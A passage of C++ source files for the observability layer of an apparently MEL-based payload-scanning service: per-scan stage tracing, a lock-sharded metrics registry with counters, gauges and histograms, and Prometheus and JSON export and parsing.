[[nodiscard]] util::StatusOr<MetricsSnapshot> from_json(
    std::string_view text);

/// JSON rendering of one scan trace's spans.
[[nodiscard]] std::string trace_to_json(const std::vector<TraceSpan>& spans);

}  // namespace mel::obs
