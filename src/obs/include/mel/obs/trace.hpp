#pragma once
// Per-scan tracing: RAII spans over the pipeline stages of one scan
// (decode, estimate, detect, verdict) with nanosecond timestamps.
//
// Timestamps come from an injectable clock defaulting to the skew-aware
// scan clock (util::fault::now), so chaos tests that inject clock skew
// see the jump inside the recorded spans — a trace is evidence of what
// the scan actually experienced, including injected time.
//
// A ScanTrace belongs to exactly ONE scan: it is created on the scan's
// stack, filled by the detector/service stages, and either discarded
// (latency histograms already captured the durations) or copied into the
// ScanReport when the request opted in. Traces never influence verdicts
// and are not thread-safe — per-scan by construction, they never need to
// be.
//
// Span helpers accept a nullable trace pointer so instrumented code needs
// no branches: a null trace makes the span a no-op (and skips the clock
// reads entirely).

#include <chrono>
#include <cstdint>
#include <string_view>
#include <vector>

#include "mel/util/fault_injection.hpp"

namespace mel::obs {

/// Pipeline stages of one scan, in the order the service narrates them.
enum class Stage : std::uint8_t {
  kDecode = 0,   ///< MEL engine pseudo-execution (the decode loop).
  kEstimate,     ///< Character frequencies -> (n, p) -> threshold tau.
  kDetect,       ///< Decision rule: MEL vs tau, loop flag.
  kVerdict,      ///< Service degradation ladder + final verdict assembly.
};
inline constexpr std::size_t kStageCount = 4;

[[nodiscard]] std::string_view stage_name(Stage stage) noexcept;

struct TraceSpan {
  Stage stage = Stage::kDecode;
  std::int64_t start_ns = 0;  ///< Clock ns at span entry.
  std::int64_t end_ns = 0;    ///< Clock ns at span exit.

  [[nodiscard]] std::int64_t duration_ns() const noexcept {
    return end_ns - start_ns;
  }
  friend bool operator==(const TraceSpan&, const TraceSpan&) = default;
};

class ScanTrace {
 public:
  /// Injectable time source. The default is the fault-aware scan clock so
  /// injected skew shows up in spans exactly as it does in deadlines.
  using Clock = std::chrono::steady_clock::time_point (*)();

  explicit ScanTrace(Clock clock = &util::fault::now) : clock_(clock) {}

  /// RAII span: records [construction, destruction) against `trace`.
  /// A null trace is a no-op (no clock reads). Non-copyable, non-movable
  /// — construct it as a named stack object scoping the stage.
  class Span {
   public:
    Span(ScanTrace* trace, Stage stage) : trace_(trace), stage_(stage) {
      if (trace_ != nullptr) start_ns_ = trace_->now_ns();
    }
    ~Span() {
      if (trace_ != nullptr) {
        trace_->record(stage_, start_ns_, trace_->now_ns());
      }
    }
    Span(const Span&) = delete;
    Span& operator=(const Span&) = delete;

   private:
    ScanTrace* trace_;
    Stage stage_;
    std::int64_t start_ns_ = 0;
  };

  void record(Stage stage, std::int64_t start_ns, std::int64_t end_ns) {
    spans_.push_back({stage, start_ns, end_ns});
  }

  [[nodiscard]] const std::vector<TraceSpan>& spans() const noexcept {
    return spans_;
  }
  [[nodiscard]] bool empty() const noexcept { return spans_.empty(); }
  void clear() noexcept { spans_.clear(); }

  /// Total nanoseconds recorded against `stage` (0 when never entered).
  [[nodiscard]] std::int64_t stage_ns(Stage stage) const noexcept {
    std::int64_t total = 0;
    for (const TraceSpan& span : spans_) {
      if (span.stage == stage) total += span.duration_ns();
    }
    return total;
  }

  [[nodiscard]] std::int64_t now_ns() const {
    return std::chrono::duration_cast<std::chrono::nanoseconds>(
               clock_().time_since_epoch())
        .count();
  }

 private:
  Clock clock_;
  std::vector<TraceSpan> spans_;
};

}  // namespace mel::obs
