#pragma once
// Lock-sharded metrics registry for the scanning tiers.
//
// The paper's end-to-end evaluation (Section 5.3) reports FP/FN counts
// and MEL distributions measured offline; a production MEL service must
// emit the same evidence continuously. The registry holds three metric
// kinds:
//
//   * Counter   — monotone event count (scans, alarms, rejects-by-code).
//   * Gauge     — instantaneous value with set / add / update_max
//                 (stream buffer occupancy, high-water marks).
//   * Histogram — fixed pre-registered buckets over int64 observations
//                 (MEL values, per-stage latencies in nanoseconds).
//
// Sharding discipline: counter and histogram updates land in a per-thread
// shard (each shard guarded by its own mutex, so concurrent scan workers
// almost never contend), and snapshot() merges the shards in fixed shard
// order. Every merge is a sum of integers — associative and commutative,
// exactly the BatchStats discipline — so the merged aggregate is
// schedule-independent: a parallel batch over N workers snapshots
// bit-identically to the same payloads scanned sequentially (histogram
// sums are int64 on purpose; float accumulation would make the merge
// order observable in the last bits). Gauges are single atomics (set is
// last-writer-wins; update_max is commutative and the right merge for
// high-water marks).
//
// Handles (Counter/Gauge/Histogram) are small copyable values. A
// default-constructed handle is detached: every operation is a no-op, so
// instrumented code paths need no "is metrics enabled" branches. Handles
// must not outlive the registry that issued them.
//
// Thread-safety contract: handle updates and snapshot() may race freely
// from any number of threads. Registration calls are serialized against
// each other and against updates/snapshots by the registry; registering
// the same (name, labels) twice returns the existing series (kind must
// match — a mismatch logs and returns a detached handle rather than
// corrupting the series).

#include <array>
#include <atomic>
#include <cstdint>
#include <memory>
#include <mutex>
#include <string>
#include <vector>

namespace mel::obs {

enum class MetricKind : std::uint8_t { kCounter = 0, kGauge, kHistogram };

class MetricsRegistry;

/// Monotone event counter handle. Detached (default) handles no-op.
class Counter {
 public:
  Counter() = default;
  void inc(std::uint64_t by = 1) const noexcept;
  [[nodiscard]] bool attached() const noexcept { return registry_ != nullptr; }

 private:
  friend class MetricsRegistry;
  Counter(MetricsRegistry* registry, std::size_t index)
      : registry_(registry), index_(index) {}
  MetricsRegistry* registry_ = nullptr;
  std::size_t index_ = 0;
};

/// Instantaneous-value handle. set() is last-writer-wins; update_max()
/// ratchets (the merge rule for high-water marks). Detached handles no-op.
class Gauge {
 public:
  Gauge() = default;
  void set(std::int64_t value) const noexcept;
  void add(std::int64_t delta) const noexcept;
  void update_max(std::int64_t candidate) const noexcept;
  [[nodiscard]] bool attached() const noexcept { return cell_ != nullptr; }

 private:
  friend class MetricsRegistry;
  explicit Gauge(std::atomic<std::int64_t>* cell) : cell_(cell) {}
  std::atomic<std::int64_t>* cell_ = nullptr;
};

/// Fixed-bucket histogram handle over int64 observations. A value lands
/// in the first bucket whose upper bound is >= the value (Prometheus `le`
/// semantics, bounds inclusive); values past the last bound land in the
/// implicit +Inf bucket. Detached handles no-op.
class Histogram {
 public:
  Histogram() = default;
  void observe(std::int64_t value) const noexcept;
  [[nodiscard]] bool attached() const noexcept { return registry_ != nullptr; }

 private:
  friend class MetricsRegistry;
  struct Layout;  // Stable per-series bucket layout owned by the registry.
  Histogram(MetricsRegistry* registry, const Layout* layout)
      : registry_(registry), layout_(layout) {}
  MetricsRegistry* registry_ = nullptr;
  const Layout* layout_ = nullptr;
};

/// Pre-registered bucket layouts (upper bounds, ascending). The MEL
/// layout brackets the paper's tau = 40 operating point densely; the
/// latency layout spans 1us .. 5s log-ish, wide enough for budget-tripped
/// scans.
[[nodiscard]] const std::vector<std::int64_t>& mel_value_buckets();
[[nodiscard]] const std::vector<std::int64_t>& latency_buckets_ns();

// --- Snapshot types (plain values, comparable in tests) -------------------

struct CounterValue {
  std::string name;
  std::string help;
  std::string labels;  ///< Pre-rendered, e.g. `code="deadline_exceeded"`.
  std::uint64_t value = 0;
  friend bool operator==(const CounterValue&, const CounterValue&) = default;
};

struct GaugeValue {
  std::string name;
  std::string help;
  std::string labels;
  std::int64_t value = 0;
  friend bool operator==(const GaugeValue&, const GaugeValue&) = default;
};

struct HistogramValue {
  std::string name;
  std::string help;
  std::string labels;
  std::vector<std::int64_t> upper_bounds;
  /// Per-bucket (NOT cumulative) counts; size upper_bounds.size() + 1,
  /// the final entry being the +Inf overflow bucket. The Prometheus
  /// exporter renders the cumulative form.
  std::vector<std::uint64_t> counts;
  std::int64_t sum = 0;
  std::uint64_t count = 0;
  friend bool operator==(const HistogramValue&, const HistogramValue&) =
      default;
};

/// Point-in-time merged view of a registry, sorted by (name, labels) so
/// two registries with the same series and values compare equal
/// regardless of registration order. No cross-metric consistency is
/// promised while updates are in flight.
struct MetricsSnapshot {
  std::vector<CounterValue> counters;
  std::vector<GaugeValue> gauges;
  std::vector<HistogramValue> histograms;
  friend bool operator==(const MetricsSnapshot&, const MetricsSnapshot&) =
      default;
};

// --- Registry -------------------------------------------------------------

class MetricsRegistry {
 public:
  /// `shard_count` 0 picks the default (16). More shards cost memory per
  /// histogram; fewer shards cost contention under many workers.
  explicit MetricsRegistry(std::size_t shard_count = 0);
  ~MetricsRegistry();  // Out of line: histogram layouts are incomplete here.

  MetricsRegistry(const MetricsRegistry&) = delete;
  MetricsRegistry& operator=(const MetricsRegistry&) = delete;

  /// Registers (or finds) the counter series (name, labels).
  [[nodiscard]] Counter counter(std::string name, std::string help,
                                std::string labels = {});
  /// Registers (or finds) the gauge series (name, labels).
  [[nodiscard]] Gauge gauge(std::string name, std::string help,
                            std::string labels = {});
  /// Registers (or finds) the histogram series (name, labels) with the
  /// given ascending upper bounds (must be non-empty and sorted).
  [[nodiscard]] Histogram histogram(std::string name, std::string help,
                                    std::vector<std::int64_t> upper_bounds,
                                    std::string labels = {});

  /// Merged point-in-time view; see MetricsSnapshot.
  [[nodiscard]] MetricsSnapshot snapshot() const;

  [[nodiscard]] std::size_t shard_count() const noexcept {
    return shards_.size();
  }

 private:
  friend class Counter;
  friend class Histogram;

  struct SeriesMeta {
    MetricKind kind;
    std::string name;
    std::string help;
    std::string labels;
    std::size_t index = 0;                 ///< Slot within its kind.
    std::vector<std::int64_t> bounds;      ///< Histograms only.
  };

  /// One lock shard: plain integers under a private mutex. Padded so two
  /// shards never share a cache line.
  struct alignas(64) Shard {
    mutable std::mutex mutex;
    std::vector<std::uint64_t> counters;
    /// Flat bucket storage; histogram h occupies
    /// [histogram_offsets[h], histogram_offsets[h+1]).
    std::vector<std::uint64_t> histogram_counts;
    std::vector<std::int64_t> histogram_sums;
  };

  void bump_counter(std::size_t index, std::uint64_t by) noexcept;
  void observe_histogram(const Histogram::Layout& layout,
                         std::int64_t value) noexcept;
  [[nodiscard]] Shard& local_shard() const noexcept;

  mutable std::mutex registry_mutex_;  ///< Guards metadata + gauge storage.
  std::vector<SeriesMeta> series_;
  /// Gauge cells and histogram layouts live behind unique_ptr so handles
  /// hold stable addresses across registration growth.
  std::vector<std::unique_ptr<std::atomic<std::int64_t>>> gauges_;
  std::vector<std::unique_ptr<Histogram::Layout>> histogram_layouts_;
  mutable std::vector<Shard> shards_;
};

}  // namespace mel::obs
