#include "mel/obs/trace.hpp"

namespace mel::obs {

std::string_view stage_name(Stage stage) noexcept {
  switch (stage) {
    case Stage::kDecode:
      return "decode";
    case Stage::kEstimate:
      return "estimate";
    case Stage::kDetect:
      return "detect";
    case Stage::kVerdict:
      return "verdict";
  }
  return "unknown";
}

}  // namespace mel::obs
