#include "mel/obs/metrics.hpp"

#include <algorithm>
#include <cassert>

#include "mel/util/logging.hpp"

namespace mel::obs {

namespace {

constexpr std::size_t kDefaultShards = 16;

}  // namespace

/// Stable per-series bucket layout; heap-allocated by the registry so a
/// handle can read it without touching any growable container.
struct Histogram::Layout {
  std::size_t index = 0;   ///< Histogram slot (sums array position).
  std::size_t offset = 0;  ///< First bucket within the flat counts array.
  std::vector<std::int64_t> bounds;
};

// --- Handles --------------------------------------------------------------

void Counter::inc(std::uint64_t by) const noexcept {
  if (registry_ != nullptr) registry_->bump_counter(index_, by);
}

void Gauge::set(std::int64_t value) const noexcept {
  if (cell_ != nullptr) cell_->store(value, std::memory_order_relaxed);
}

void Gauge::add(std::int64_t delta) const noexcept {
  if (cell_ != nullptr) cell_->fetch_add(delta, std::memory_order_relaxed);
}

void Gauge::update_max(std::int64_t candidate) const noexcept {
  if (cell_ == nullptr) return;
  std::int64_t seen = cell_->load(std::memory_order_relaxed);
  while (candidate > seen &&
         !cell_->compare_exchange_weak(seen, candidate,
                                       std::memory_order_relaxed)) {
  }
}

void Histogram::observe(std::int64_t value) const noexcept {
  if (registry_ != nullptr) registry_->observe_histogram(*layout_, value);
}

// --- Bucket layouts -------------------------------------------------------

const std::vector<std::int64_t>& mel_value_buckets() {
  static const std::vector<std::int64_t> kBuckets = {
      0,  1,  2,  4,   8,   12,  16,  20,   24,   28,   32,  36,
      40, 48, 64, 96, 128, 192, 256, 512, 1024, 2048, 4096};
  return kBuckets;
}

const std::vector<std::int64_t>& latency_buckets_ns() {
  static const std::vector<std::int64_t> kBuckets = {
      1'000,         5'000,       10'000,      50'000,      100'000,
      500'000,       1'000'000,   5'000'000,   10'000'000,  50'000'000,
      100'000'000,   500'000'000, 1'000'000'000, 5'000'000'000};
  return kBuckets;
}

// --- Registry -------------------------------------------------------------

MetricsRegistry::MetricsRegistry(std::size_t shard_count)
    : shards_(shard_count == 0 ? kDefaultShards : shard_count) {}

MetricsRegistry::~MetricsRegistry() = default;

MetricsRegistry::Shard& MetricsRegistry::local_shard() const noexcept {
  // Round-robin thread->slot assignment, fixed for the thread's lifetime.
  // The slot is registry-agnostic (a plain enumeration of threads), so
  // one thread maps to one shard per registry with zero per-call state.
  static std::atomic<std::size_t> next_slot{0};
  thread_local const std::size_t slot =
      next_slot.fetch_add(1, std::memory_order_relaxed);
  return shards_[slot % shards_.size()];
}

Counter MetricsRegistry::counter(std::string name, std::string help,
                                 std::string labels) {
  std::lock_guard<std::mutex> lock(registry_mutex_);
  for (const SeriesMeta& meta : series_) {
    if (meta.name == name && meta.labels == labels) {
      if (meta.kind == MetricKind::kCounter) return Counter(this, meta.index);
      util::log_warn_ctx({.component = "obs"}, "metric '", name,
                         "' already registered with a different kind; "
                         "returning detached counter");
      return Counter();
    }
  }

  SeriesMeta meta;
  meta.kind = MetricKind::kCounter;
  meta.name = std::move(name);
  meta.help = std::move(help);
  meta.labels = std::move(labels);
  std::size_t index = 0;
  for (const SeriesMeta& existing : series_) {
    index += existing.kind == MetricKind::kCounter ? 1 : 0;
  }
  meta.index = index;
  series_.push_back(std::move(meta));
  for (Shard& shard : shards_) {
    std::lock_guard<std::mutex> shard_lock(shard.mutex);
    shard.counters.push_back(0);
  }
  return Counter(this, index);
}

Gauge MetricsRegistry::gauge(std::string name, std::string help,
                             std::string labels) {
  std::lock_guard<std::mutex> lock(registry_mutex_);
  for (const SeriesMeta& meta : series_) {
    if (meta.name == name && meta.labels == labels) {
      if (meta.kind == MetricKind::kGauge) {
        return Gauge(gauges_[meta.index].get());
      }
      util::log_warn_ctx({.component = "obs"}, "metric '", name,
                         "' already registered with a different kind; "
                         "returning detached gauge");
      return Gauge();
    }
  }

  SeriesMeta meta;
  meta.kind = MetricKind::kGauge;
  meta.name = std::move(name);
  meta.help = std::move(help);
  meta.labels = std::move(labels);
  meta.index = gauges_.size();
  series_.push_back(std::move(meta));
  gauges_.push_back(std::make_unique<std::atomic<std::int64_t>>(0));
  return Gauge(gauges_.back().get());
}

Histogram MetricsRegistry::histogram(std::string name, std::string help,
                                     std::vector<std::int64_t> upper_bounds,
                                     std::string labels) {
  assert(!upper_bounds.empty() && "histogram needs at least one bound");
  assert(std::is_sorted(upper_bounds.begin(), upper_bounds.end()) &&
         "histogram bounds must ascend");
  std::lock_guard<std::mutex> lock(registry_mutex_);
  for (const SeriesMeta& meta : series_) {
    if (meta.name == name && meta.labels == labels) {
      if (meta.kind == MetricKind::kHistogram) {
        return Histogram(this, histogram_layouts_[meta.index].get());
      }
      util::log_warn_ctx({.component = "obs"}, "metric '", name,
                         "' already registered with a different kind; "
                         "returning detached histogram");
      return Histogram();
    }
  }

  auto layout = std::make_unique<Histogram::Layout>();
  layout->index = histogram_layouts_.size();
  layout->offset = histogram_layouts_.empty()
                       ? 0
                       : histogram_layouts_.back()->offset +
                             histogram_layouts_.back()->bounds.size() + 1;
  layout->bounds = std::move(upper_bounds);
  const std::size_t total_slots =
      layout->offset + layout->bounds.size() + 1;  // +Inf overflow bucket.

  SeriesMeta meta;
  meta.kind = MetricKind::kHistogram;
  meta.name = std::move(name);
  meta.help = std::move(help);
  meta.labels = std::move(labels);
  meta.index = layout->index;
  series_.push_back(std::move(meta));
  histogram_layouts_.push_back(std::move(layout));
  for (Shard& shard : shards_) {
    std::lock_guard<std::mutex> shard_lock(shard.mutex);
    shard.histogram_counts.resize(total_slots, 0);
    shard.histogram_sums.push_back(0);
  }
  return Histogram(this, histogram_layouts_.back().get());
}

void MetricsRegistry::bump_counter(std::size_t index,
                                   std::uint64_t by) noexcept {
  Shard& shard = local_shard();
  std::lock_guard<std::mutex> lock(shard.mutex);
  shard.counters[index] += by;
}

void MetricsRegistry::observe_histogram(const Histogram::Layout& layout,
                                        std::int64_t value) noexcept {
  const auto bucket = static_cast<std::size_t>(
      std::lower_bound(layout.bounds.begin(), layout.bounds.end(), value) -
      layout.bounds.begin());
  Shard& shard = local_shard();
  std::lock_guard<std::mutex> lock(shard.mutex);
  shard.histogram_counts[layout.offset + bucket] += 1;
  shard.histogram_sums[layout.index] += value;
}

MetricsSnapshot MetricsRegistry::snapshot() const {
  std::lock_guard<std::mutex> lock(registry_mutex_);
  MetricsSnapshot snap;

  // Merge shards in fixed order; every aggregate is an integer sum, so
  // the result is independent of which thread updated which shard.
  std::size_t counter_slots = 0;
  for (const SeriesMeta& meta : series_) {
    counter_slots += meta.kind == MetricKind::kCounter ? 1 : 0;
  }
  const std::size_t bucket_slots =
      histogram_layouts_.empty()
          ? 0
          : histogram_layouts_.back()->offset +
                histogram_layouts_.back()->bounds.size() + 1;
  std::vector<std::uint64_t> counters(counter_slots, 0);
  std::vector<std::uint64_t> histogram_counts(bucket_slots, 0);
  std::vector<std::int64_t> histogram_sums(histogram_layouts_.size(), 0);
  for (const Shard& shard : shards_) {
    std::lock_guard<std::mutex> shard_lock(shard.mutex);
    for (std::size_t i = 0; i < shard.counters.size(); ++i) {
      counters[i] += shard.counters[i];
    }
    for (std::size_t i = 0; i < shard.histogram_counts.size(); ++i) {
      histogram_counts[i] += shard.histogram_counts[i];
    }
    for (std::size_t i = 0; i < shard.histogram_sums.size(); ++i) {
      histogram_sums[i] += shard.histogram_sums[i];
    }
  }

  for (const SeriesMeta& meta : series_) {
    switch (meta.kind) {
      case MetricKind::kCounter:
        snap.counters.push_back(
            {meta.name, meta.help, meta.labels, counters[meta.index]});
        break;
      case MetricKind::kGauge:
        snap.gauges.push_back(
            {meta.name, meta.help, meta.labels,
             gauges_[meta.index]->load(std::memory_order_relaxed)});
        break;
      case MetricKind::kHistogram: {
        const Histogram::Layout& layout = *histogram_layouts_[meta.index];
        HistogramValue value;
        value.name = meta.name;
        value.help = meta.help;
        value.labels = meta.labels;
        value.upper_bounds = layout.bounds;
        value.counts.assign(
            histogram_counts.begin() +
                static_cast<std::ptrdiff_t>(layout.offset),
            histogram_counts.begin() +
                static_cast<std::ptrdiff_t>(layout.offset +
                                            layout.bounds.size() + 1));
        value.sum = histogram_sums[meta.index];
        for (std::uint64_t bucket : value.counts) value.count += bucket;
        snap.histograms.push_back(std::move(value));
        break;
      }
    }
  }

  const auto by_series = [](const auto& a, const auto& b) {
    return a.name != b.name ? a.name < b.name : a.labels < b.labels;
  };
  std::sort(snap.counters.begin(), snap.counters.end(), by_series);
  std::sort(snap.gauges.begin(), snap.gauges.end(), by_series);
  std::sort(snap.histograms.begin(), snap.histograms.end(), by_series);
  return snap;
}

}  // namespace mel::obs
