#include "mel/obs/export.hpp"

#include <cctype>
#include <charconv>
#include <string>

namespace mel::obs {

namespace {

// --- Rendering helpers ----------------------------------------------------

void append_escaped(std::string& out, std::string_view text) {
  for (char c : text) {
    switch (c) {
      case '"':
        out += "\\\"";
        break;
      case '\\':
        out += "\\\\";
        break;
      case '\n':
        out += "\\n";
        break;
      case '\t':
        out += "\\t";
        break;
      default:
        out += c;
    }
  }
}

void append_json_string(std::string& out, std::string_view text) {
  out += '"';
  append_escaped(out, text);
  out += '"';
}

/// `name{labels}` or bare `name`; `extra` (e.g. le="40") is merged into
/// the label set.
void append_series_ref(std::string& out, const std::string& name,
                       const std::string& labels,
                       std::string_view extra = {}) {
  out += name;
  if (labels.empty() && extra.empty()) return;
  out += '{';
  out += labels;
  if (!labels.empty() && !extra.empty()) out += ',';
  out += extra;
  out += '}';
}

void append_family_header(std::string& out, const std::string& name,
                          const std::string& help, std::string_view type) {
  out += "# HELP ";
  out += name;
  out += ' ';
  out += help;
  out += "\n# TYPE ";
  out += name;
  out += ' ';
  out += type;
  out += '\n';
}

// --- Minimal JSON parser (exactly the snapshot schema) --------------------
//
// The snapshot format only needs objects, arrays, strings and int64
// numbers, so the parser handles exactly that — no floats, no bools, no
// nulls. Any deviation returns kInvalidArgument with a byte offset.

class JsonCursor {
 public:
  explicit JsonCursor(std::string_view text) : text_(text) {}

  [[nodiscard]] util::Status error(const std::string& what) const {
    return util::Status::invalid_argument(
        what + " at byte " + std::to_string(position_));
  }

  void skip_space() {
    while (position_ < text_.size() &&
           std::isspace(static_cast<unsigned char>(text_[position_]))) {
      ++position_;
    }
  }

  [[nodiscard]] bool consume(char expected) {
    skip_space();
    if (position_ < text_.size() && text_[position_] == expected) {
      ++position_;
      return true;
    }
    return false;
  }

  [[nodiscard]] bool peek(char expected) {
    skip_space();
    return position_ < text_.size() && text_[position_] == expected;
  }

  [[nodiscard]] bool at_end() {
    skip_space();
    return position_ >= text_.size();
  }

  [[nodiscard]] util::Status parse_string(std::string& out) {
    if (!consume('"')) return error("expected string");
    out.clear();
    while (position_ < text_.size()) {
      const char c = text_[position_++];
      if (c == '"') return util::Status::ok();
      if (c == '\\') {
        if (position_ >= text_.size()) break;
        const char escaped = text_[position_++];
        switch (escaped) {
          case '"':
            out += '"';
            break;
          case '\\':
            out += '\\';
            break;
          case 'n':
            out += '\n';
            break;
          case 't':
            out += '\t';
            break;
          case '/':
            out += '/';
            break;
          default:
            return error("unsupported escape");
        }
        continue;
      }
      out += c;
    }
    return error("unterminated string");
  }

  [[nodiscard]] util::Status parse_int(std::int64_t& out) {
    skip_space();
    const std::size_t begin = position_;
    if (position_ < text_.size() && text_[position_] == '-') ++position_;
    while (position_ < text_.size() &&
           std::isdigit(static_cast<unsigned char>(text_[position_]))) {
      ++position_;
    }
    const auto result = std::from_chars(text_.data() + begin,
                                        text_.data() + position_, out);
    if (result.ec != std::errc{} ||
        result.ptr != text_.data() + position_ || begin == position_) {
      return error("expected integer");
    }
    return util::Status::ok();
  }

  [[nodiscard]] util::Status parse_uint(std::uint64_t& out) {
    std::int64_t value = 0;
    if (util::Status status = parse_int(value); !status.is_ok()) {
      return status;
    }
    if (value < 0) return error("expected non-negative integer");
    out = static_cast<std::uint64_t>(value);
    return util::Status::ok();
  }

  [[nodiscard]] util::Status expect(char c, const char* what) {
    if (!consume(c)) return error(std::string("expected ") + what);
    return util::Status::ok();
  }

 private:
  std::string_view text_;
  std::size_t position_ = 0;
};

#define MEL_OBS_TRY(expr)                                \
  do {                                                   \
    if (util::Status status = (expr); !status.is_ok()) { \
      return status;                                     \
    }                                                    \
  } while (false)

util::Status parse_int_array(JsonCursor& cursor,
                             std::vector<std::int64_t>& out) {
  MEL_OBS_TRY(cursor.expect('[', "'['"));
  out.clear();
  if (cursor.consume(']')) return util::Status::ok();
  for (;;) {
    std::int64_t value = 0;
    MEL_OBS_TRY(cursor.parse_int(value));
    out.push_back(value);
    if (cursor.consume(']')) return util::Status::ok();
    MEL_OBS_TRY(cursor.expect(',', "','"));
  }
}

util::Status parse_uint_array(JsonCursor& cursor,
                              std::vector<std::uint64_t>& out) {
  MEL_OBS_TRY(cursor.expect('[', "'['"));
  out.clear();
  if (cursor.consume(']')) return util::Status::ok();
  for (;;) {
    std::uint64_t value = 0;
    MEL_OBS_TRY(cursor.parse_uint(value));
    out.push_back(value);
    if (cursor.consume(']')) return util::Status::ok();
    MEL_OBS_TRY(cursor.expect(',', "','"));
  }
}

/// Parses one `"key": value` pair into the matching member. Counters and
/// gauges share the scalar keys; histograms add the array keys.
template <typename Series>
util::Status parse_series_field(JsonCursor& cursor, const std::string& key,
                                Series& series) {
  if (key == "name") return cursor.parse_string(series.name);
  if (key == "help") return cursor.parse_string(series.help);
  if (key == "labels") return cursor.parse_string(series.labels);
  if constexpr (std::is_same_v<Series, CounterValue>) {
    if (key == "value") return cursor.parse_uint(series.value);
  } else if constexpr (std::is_same_v<Series, GaugeValue>) {
    if (key == "value") return cursor.parse_int(series.value);
  } else {
    if (key == "le") return parse_int_array(cursor, series.upper_bounds);
    if (key == "counts") return parse_uint_array(cursor, series.counts);
    if (key == "sum") return cursor.parse_int(series.sum);
    if (key == "count") return cursor.parse_uint(series.count);
  }
  return cursor.error("unknown key '" + key + "'");
}

template <typename Series>
util::Status parse_series_array(JsonCursor& cursor,
                                std::vector<Series>& out) {
  MEL_OBS_TRY(cursor.expect('[', "'['"));
  if (cursor.consume(']')) return util::Status::ok();
  for (;;) {
    MEL_OBS_TRY(cursor.expect('{', "'{'"));
    Series series;
    if (!cursor.consume('}')) {
      for (;;) {
        std::string key;
        MEL_OBS_TRY(cursor.parse_string(key));
        MEL_OBS_TRY(cursor.expect(':', "':'"));
        MEL_OBS_TRY(parse_series_field(cursor, key, series));
        if (cursor.consume('}')) break;
        MEL_OBS_TRY(cursor.expect(',', "','"));
      }
    }
    out.push_back(std::move(series));
    if (cursor.consume(']')) return util::Status::ok();
    MEL_OBS_TRY(cursor.expect(',', "','"));
  }
}

}  // namespace

// --- Prometheus -----------------------------------------------------------

std::string to_prometheus(const MetricsSnapshot& snapshot) {
  std::string out;
  out.reserve(4096);

  const std::string* last_family = nullptr;
  for (const CounterValue& counter : snapshot.counters) {
    if (last_family == nullptr || *last_family != counter.name) {
      append_family_header(out, counter.name, counter.help, "counter");
      last_family = &counter.name;
    }
    append_series_ref(out, counter.name, counter.labels);
    out += ' ';
    out += std::to_string(counter.value);
    out += '\n';
  }

  last_family = nullptr;
  for (const GaugeValue& gauge : snapshot.gauges) {
    if (last_family == nullptr || *last_family != gauge.name) {
      append_family_header(out, gauge.name, gauge.help, "gauge");
      last_family = &gauge.name;
    }
    append_series_ref(out, gauge.name, gauge.labels);
    out += ' ';
    out += std::to_string(gauge.value);
    out += '\n';
  }

  last_family = nullptr;
  for (const HistogramValue& histogram : snapshot.histograms) {
    if (last_family == nullptr || *last_family != histogram.name) {
      append_family_header(out, histogram.name, histogram.help, "histogram");
      last_family = &histogram.name;
    }
    // Buckets are cumulative in the exposition format.
    std::uint64_t cumulative = 0;
    for (std::size_t i = 0; i < histogram.upper_bounds.size(); ++i) {
      cumulative += histogram.counts[i];
      append_series_ref(
          out, histogram.name + "_bucket", histogram.labels,
          "le=\"" + std::to_string(histogram.upper_bounds[i]) + "\"");
      out += ' ';
      out += std::to_string(cumulative);
      out += '\n';
    }
    append_series_ref(out, histogram.name + "_bucket", histogram.labels,
                      "le=\"+Inf\"");
    out += ' ';
    out += std::to_string(histogram.count);
    out += '\n';
    append_series_ref(out, histogram.name + "_sum", histogram.labels);
    out += ' ';
    out += std::to_string(histogram.sum);
    out += '\n';
    append_series_ref(out, histogram.name + "_count", histogram.labels);
    out += ' ';
    out += std::to_string(histogram.count);
    out += '\n';
  }
  return out;
}

// --- JSON -----------------------------------------------------------------

std::string to_json(const MetricsSnapshot& snapshot) {
  std::string out;
  out.reserve(4096);
  out += "{\n  \"counters\": [";
  for (std::size_t i = 0; i < snapshot.counters.size(); ++i) {
    const CounterValue& counter = snapshot.counters[i];
    out += i == 0 ? "\n" : ",\n";
    out += "    {\"name\": ";
    append_json_string(out, counter.name);
    out += ", \"help\": ";
    append_json_string(out, counter.help);
    out += ", \"labels\": ";
    append_json_string(out, counter.labels);
    out += ", \"value\": ";
    out += std::to_string(counter.value);
    out += '}';
  }
  out += snapshot.counters.empty() ? "],\n" : "\n  ],\n";

  out += "  \"gauges\": [";
  for (std::size_t i = 0; i < snapshot.gauges.size(); ++i) {
    const GaugeValue& gauge = snapshot.gauges[i];
    out += i == 0 ? "\n" : ",\n";
    out += "    {\"name\": ";
    append_json_string(out, gauge.name);
    out += ", \"help\": ";
    append_json_string(out, gauge.help);
    out += ", \"labels\": ";
    append_json_string(out, gauge.labels);
    out += ", \"value\": ";
    out += std::to_string(gauge.value);
    out += '}';
  }
  out += snapshot.gauges.empty() ? "],\n" : "\n  ],\n";

  out += "  \"histograms\": [";
  for (std::size_t i = 0; i < snapshot.histograms.size(); ++i) {
    const HistogramValue& histogram = snapshot.histograms[i];
    out += i == 0 ? "\n" : ",\n";
    out += "    {\"name\": ";
    append_json_string(out, histogram.name);
    out += ", \"help\": ";
    append_json_string(out, histogram.help);
    out += ", \"labels\": ";
    append_json_string(out, histogram.labels);
    out += ", \"le\": [";
    for (std::size_t b = 0; b < histogram.upper_bounds.size(); ++b) {
      if (b != 0) out += ", ";
      out += std::to_string(histogram.upper_bounds[b]);
    }
    out += "], \"counts\": [";
    for (std::size_t b = 0; b < histogram.counts.size(); ++b) {
      if (b != 0) out += ", ";
      out += std::to_string(histogram.counts[b]);
    }
    out += "], \"sum\": ";
    out += std::to_string(histogram.sum);
    out += ", \"count\": ";
    out += std::to_string(histogram.count);
    out += '}';
  }
  out += snapshot.histograms.empty() ? "]\n" : "\n  ]\n";
  out += "}\n";
  return out;
}

util::StatusOr<MetricsSnapshot> from_json(std::string_view text) {
  JsonCursor cursor(text);
  MetricsSnapshot snapshot;
  MEL_OBS_TRY(cursor.expect('{', "'{'"));
  if (!cursor.consume('}')) {
    for (;;) {
      std::string key;
      MEL_OBS_TRY(cursor.parse_string(key));
      MEL_OBS_TRY(cursor.expect(':', "':'"));
      if (key == "counters") {
        MEL_OBS_TRY(parse_series_array(cursor, snapshot.counters));
      } else if (key == "gauges") {
        MEL_OBS_TRY(parse_series_array(cursor, snapshot.gauges));
      } else if (key == "histograms") {
        MEL_OBS_TRY(parse_series_array(cursor, snapshot.histograms));
      } else {
        return cursor.error("unknown key '" + key + "'");
      }
